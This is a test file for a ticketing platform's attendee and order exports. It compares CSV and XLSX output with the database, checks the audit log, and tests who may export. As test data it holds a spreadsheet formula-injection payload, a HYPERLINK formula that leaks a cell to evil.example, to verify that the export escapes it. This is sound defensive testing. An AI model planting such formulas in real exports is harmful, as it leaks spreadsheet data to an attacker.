// @vitest-environment node
// Exports of 1,000 attendees (500 orders of 2 tickets, 10 pending orders between them) on both stores: the CSV has the database's rows, with a
// buyer's `=HYPERLINK(...)` name and other formula starts escaped; the XLSX, converted to CSV by LibreOffice
// (`soffice --headless --convert-to csv`), has the same rows; the orders export likewise. Who may export: a fresh
// owner, an orders:read API token; not a check-in-only token (403), a stale session (403), another organizer (404).
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Kysely } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApiToken } from "../../domain/accounts/api-tokens.ts";
import type { RunningServer } from "../../server.ts";
import type { Store } from "../../store/index.ts";
import { manageSession } from "../../testing/manage-session.ts";
import { rows, run } from "../../testing/sql.ts";
import { startServerOn, testStores } from "../../testing/stores.ts";

const EVENT = 101;
/** Every 51st is pending, without tickets: 500 orders with 2 tickets, and more orders than two pages (250). */
const ORDERS = 510;
const pendingAt = (i: number) => i % 51 === 50;
const VOIDED_AT = Date.UTC(2026, 5, 20, 12, 0, 0);
/** Names a spreadsheet would run or misread, and what the export must make of them. */
const TRICKY: [name: string, exported: string][] = [
  ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`],
  ["+49 30 1234", "'+49 30 1234"],
  ["-2+3", "'-2+3"],
  ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
  ["\tTab", "'\tTab"],
  ['Zoë, "Zo" Ñúñez', 'Zoë, "Zo" Ñúñez'],
];

/** RFC 4180, as our writer and LibreOffice write it (a BOM, quotes doubled, CRLF or LF). */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const src = text.replace(/^\uFEFF/, "");
  const endRow = () => {
    row.push(cell);
    out.push(row);
    row = [];
    cell = "";
  };
  for (let i = 0; i < src.length; i++) {
    const c = src[i];
    if (quoted && c === '"' && src[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\n" || c === "\r") {
      if (c === "\r" && src[i + 1] === "\n") i++;
      endRow();
    } else cell += c;
  }
  if (cell !== "" || row.length) endRow();
  return out;
}

const kysely = (store: Store) => (store as unknown as { kysely: Kysely<any> }).kysely;

/** 510 orders of event 101, each with a line of 2 tickets of 10101 or 10102 (issued unless the order is pending);
 *  the first ones carry TRICKY names. */
async function seedAttendees(store: Store) {
  const db = kysely(store);
  const orders = [];
  const lines = [];
  const tickets = [];
  for (let i = 0; i < ORDERS; i++) {
    const id = `exp-${String(i).padStart(4, "0")}`;
    const ticketId = i % 3 === 0 ? 10102 : 10101;
    const price = ticketId === 10102 ? "89.00" : "25.00";
    orders.push({
      id,
      event_id: EVENT,
      link_token: `lt-${id}`,
      status: pendingAt(i) ? "pending" : i % 50 === 7 ? "refunded" : "paid",
      payment_method: "card",
      first_name: TRICKY[i]?.[0] ?? `First${i}`,
      last_name: `Last ${i}`,
      email: `buyer${i}@example.org`,
      street: "Street 1",
      post_code: "10115",
      city: "Berlin",
      country: "Germany",
      lang: "en",
      currency: "EUR",
      price_before_discount: (Number(price) * 2).toFixed(2),
      discount_amount: "0.00",
      final_price_paid: (Number(price) * 2 * 1.05).toFixed(2),
      // Some orders share a second, so the keyset's tie-break on id matters.
      created_at: new Date(Date.UTC(2026, 5, 1) + Math.floor(i / 3) * 1000).toISOString(),
      provider: "stripe",
      provider_ref: `pi_${id}`,
    });
    lines.push({
      order_id: id,
      ticket_id: ticketId,
      ticket_name: ticketId === 10102 ? "VIP" : "Standard",
      unit_price: price,
      quantity: 2,
    });
    if (!pendingAt(i))
      for (const position of [1, 2])
        tickets.push({
          id: `${id}-t${position}`,
          order_id: id,
          ticket_id: ticketId,
          position,
          code: `CODE-${i}-${position}`,
        });
  }
  for (let i = 0; i < ORDERS; i += 100) {
    await db
      .insertInto("orders")
      .values(orders.slice(i, i + 100))
      .execute();
    await db
      .insertInto("order_lines")
      .values(lines.slice(i, i + 100))
      .execute();
  }
  for (let i = 0; i < tickets.length; i += 200)
    await db
      .insertInto("issued_tickets")
      .values(tickets.slice(i, i + 200))
      .execute();
  // One ticket has an attendee of its own: the attendees export names them, not the buyer.
  await db
    .insertInto("ticket_attendees")
    .values({
      ticket_id: "exp-0010-t2",
      order_id: "exp-0010",
      first_name: "Own",
      last_name: "Guest",
      email: "own@example.org",
      updated_at: 0,
    })
    .execute();
  // The first order got 44.50 back; a failed refund of it gave nothing.
  const refund = (id: string, state: string, amount: string) =>
    run(
      store,
      `INSERT INTO refunds (id, idempotency_key, organizer_id, event_id, order_id, state, amount, currency, ticket_ids,
         return_to_sale, retries, actor, created_at, updated_at) VALUES (?, ?, 1, ?, 'exp-0000', ?, ?, 'EUR', '[]', 1, 0,
         '{"kind":"system"}', 0, 0)`,
      id,
      `key-${id}`,
      EVENT,
      state,
      amount,
    );
  await refund("rf_ok", "succeeded", "44.50");
  await refund("rf_failed", "failed", "10.00");
  // One ticket was voided by a refund: the export says when.
  await run(store, "UPDATE issued_tickets SET voided_at = ? WHERE id = ?", VOIDED_AT, "exp-0020-t1");
}

/** The attendee rows as the database has them, escaped as the export must escape them. */
async function attendeesInDb(store: Store): Promise<string[][]> {
  type Row = Record<"code" | "ticket_name" | "first_name" | "last_name" | "email" | "id" | "created_at", string> &
    Record<"status" | "buyer" | "unit_price" | "currency", string> & { voided_at: string | number | null };
  const found = await rows<Row>(
    store,
    `SELECT t.code, l.ticket_name, COALESCE(a.first_name, o.first_name) AS first_name,
            COALESCE(a.last_name, o.last_name) AS last_name, COALESCE(a.email, o.email) AS email, o.id, o.created_at,
            o.status, o.email AS buyer, l.unit_price, o.currency, t.voided_at
       FROM issued_tickets t JOIN orders o ON o.id = t.order_id
       JOIN order_lines l ON l.order_id = t.order_id AND l.ticket_id = t.ticket_id
       LEFT JOIN ticket_attendees a ON a.ticket_id = t.id
      WHERE o.event_id = ? ORDER BY o.created_at, o.id, t.position`,
    EVENT,
  );
  const escaped = new Map(TRICKY);
  return found.map((r) => [
    r.code,
    r.ticket_name,
    escaped.get(r.first_name) ?? r.first_name,
    r.last_name,
    r.email,
    r.id,
    r.created_at,
    r.status,
    r.buyer,
    r.unit_price,
    r.currency,
    r.voided_at === null ? "" : new Date(Number(r.voided_at)).toISOString(),
  ]);
}

/** The sheets converted to CSV by LibreOffice (UTF-8, comma, double quotes), in a profile of their own. */
function sofficeCsv(files: string[]): string[][][] {
  const dir = mkdtempSync(join(tmpdir(), "tc-soffice-"));
  const paths = files.map((_, i) => join(dir, `sheet-${i}.xlsx`));
  files.forEach((_, i) => writeFileSync(paths[i]!, Buffer.from(files[i]!, "binary")));
  execFileSync(
    "soffice",
    [
      `-env:UserInstallation=file://${dir}/profile`,
      "--headless",
      "--convert-to",
      "csv:Text - txt - csv (StarCalc):44,34,76,1",
      "--outdir",
      dir,
      ...paths,
    ],
    { stdio: "pipe", timeout: 120_000 },
  );
  return paths.map((p) => parseCsv(readFileSync(p.replace(/\.xlsx$/, ".csv"), "utf8")));
}

describe.each(testStores)("exports on %s", (_name, kind) => {
  let server: RunningServer;
  let owner: Awaited<ReturnType<typeof manageSession>>;
  const now = Date.now();
  const get = async (path: string, headers: Record<string, string>) => {
    const res = await fetch(`${server.origin}/api/manage/organizers/1/events/${EVENT}/export/${path}`, { headers });
    return { res, bytes: Buffer.from(await res.arrayBuffer()) };
  };

  beforeAll(async () => {
    server = await startServerOn(kind, { DEMO_MODE: "0" });
    server.payments.clock = () => now;
    owner = await manageSession(server.store, { organizerId: 1, role: "owner", now });
    await seedAttendees(server.store);
  }, 60_000);
  afterAll(() => server.close());

  it("CSV and XLSX of 1,000 attendees match each other and the database, formula starts escaped", async () => {
    const csv = await get("attendees.csv", owner.headers);
    expect(csv.res.status).toBe(200);
    expect(csv.res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(csv.res.headers.get("content-disposition")).toBe(`attachment; filename="event-${EVENT}-attendees.csv"`);
    const fromCsv = parseCsv(csv.bytes.toString("utf8"));
    const expected = await attendeesInDb(server.store);
    expect(expected.length).toBe(1000);
    expect(fromCsv[0]).toEqual([
      "Ticket code",
      "Ticket type",
      "First name",
      "Last name",
      "Email",
      "Order",
      "Ordered at",
      "Order status",
      "Buyer email",
      "Price",
      "Currency",
      "Voided at",
    ]);
    expect(fromCsv.slice(1)).toEqual(expected);
    expect(fromCsv.find((r) => r[0] === "CODE-0-1")?.[2]).toBe(TRICKY[0]![1]);
    expect(fromCsv.find((r) => r[0] === "CODE-10-2")?.slice(2, 5)).toEqual(["Own", "Guest", "own@example.org"]);
    expect(fromCsv.find((r) => r[0] === "CODE-20-1")?.[11]).toBe("2026-06-20T12:00:00.000Z");

    const xlsx = await get("attendees.xlsx", owner.headers);
    expect(xlsx.res.status).toBe(200);
    expect(xlsx.bytes.subarray(0, 2).toString()).toBe("PK");
    const orders = await get("orders.csv", owner.headers);
    const ordersXlsx = await get("orders.xlsx", owner.headers);
    const [attendeeSheet, orderSheet] = sofficeCsv([
      xlsx.bytes.toString("binary"),
      ordersXlsx.bytes.toString("binary"),
    ]);
    expect(attendeeSheet).toEqual(fromCsv);
    const orderRows = parseCsv(orders.bytes.toString("utf8"));
    expect(orderSheet).toEqual(orderRows);
    expect(orderRows.length - 1).toBe(
      Number(
        (await rows<{ n: number }>(server.store, "SELECT COUNT(*) AS n FROM orders WHERE event_id = ?", EVENT))[0]!.n,
      ),
    );
    const first = orderRows.find((r) => r[0] === "exp-0000")!;
    expect([first[3], first[16], first[18], first[20], first[21]]).toEqual([
      TRICKY[0]![1],
      "2",
      "178.00",
      "186.90",
      "44.50",
    ]);
    const audit = await rows<{ action: string; actor_label: string }>(
      server.store,
      "SELECT action, actor_label FROM audit_log WHERE action LIKE 'export.%' ORDER BY id",
    );
    expect(audit).toEqual([
      { action: "export.attendees", actor_label: owner.email },
      { action: "export.attendees", actor_label: owner.email },
      { action: "export.orders", actor_label: owner.email },
      { action: "export.orders", actor_label: owner.email },
    ]);
  }, 180_000);

  it("an orders:read token exports; a check-in-only token, a stale session and another organizer do not", async () => {
    const token = async (scopes: ("orders:read" | "check-in")[]) =>
      (
        await createApiToken(
          { store: server.store, clock: () => now },
          { userId: owner.userId, email: owner.email, operator: false },
          1,
          { name: scopes.join(), scopes },
        )
      ).token;
    const reader = await get("orders.csv", { authorization: `Bearer ${await token(["orders:read"])}` });
    expect(reader.res.status).toBe(200);
    expect(parseCsv(reader.bytes.toString("utf8")).length).toBe(
      ORDERS +
        1 +
        Number(
          (
            await rows<{ n: number }>(
              server.store,
              "SELECT COUNT(*) AS n FROM orders WHERE event_id = ? AND id NOT LIKE 'exp-%'",
              EVENT,
            )
          )[0]!.n,
        ),
    );
    const door = await get("attendees.xlsx", { authorization: `Bearer ${await token(["check-in"])}` });
    expect(door.res.status).toBe(403);
    expect(JSON.parse(door.bytes.toString()).error.code).toBe("forbidden");
    const stale = await manageSession(server.store, { organizerId: 1, role: "owner", now: now - 11 * 60_000 });
    server.payments.clock = () => now;
    const late = await get("attendees.csv", stale.headers);
    expect([late.res.status, JSON.parse(late.bytes.toString()).error.code]).toEqual([403, "reauth_required"]);
    const other = await fetch(`${server.origin}/api/manage/organizers/1/events/201/export/attendees.csv`, {
      headers: owner.headers,
    });
    expect(other.status).toBe(404);
  });
});
